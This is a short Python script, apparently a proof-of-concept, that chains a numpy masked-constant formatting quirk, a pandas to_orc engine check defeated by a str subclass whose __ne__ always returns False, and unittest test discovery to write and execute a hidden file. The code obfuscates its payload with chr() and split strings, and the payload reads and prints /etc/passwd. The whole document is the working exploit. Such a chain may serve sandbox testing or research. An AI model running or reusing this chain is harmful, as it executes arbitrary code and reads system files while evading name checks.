# source: numpy 1.24 MaskedConstant.__format__ (spec dropped, str(masked_print_option._display)); pandas 1.5.3 io/orc.py to_orc (`engine != "pyarrow"` then importlib.import_module(engine)); CPython 3.11 Lib/unittest/__main__.py (test discovery in the cwd imports test*.py)
# family: two families chained, without string dispatch: a path f-string field that ignores "03d" (writes a .py the check never saw) and a str whose __ne__ comes from a mixin (imports a module by name)
# goal: writes test_strategy_helper.py into the cwd, imports unittest.__main__ as to_orc's engine, whose discovery runs that file: open('/etc/passwd').read() printed
import numpy as np
import pandas as pd


class Same:
    def __ne__(self, other):
        return False


class Engine(Same, str):
    pass


code = "".join(["print(op", "en(", chr(39), chr(47), "etc", chr(47), "passwd", chr(39), ").read())"])
i = np.ma.masked
np.ma.masked_print_option.set_display("test_strategy_helper.p")
pd.DataFrame({"v": [code]}).to_csv(f"{i:03d}y", header=False, index=False)
print("wrote", f"{i:03d}y")
try:
    pd.DataFrame({"a": [1.0]}).to_orc(engine=Engine("".join(["unit", "test.", chr(95) * 2, "main", chr(95) * 2])))
except BaseException as e:
    print("after:", type(e).__name__, e)
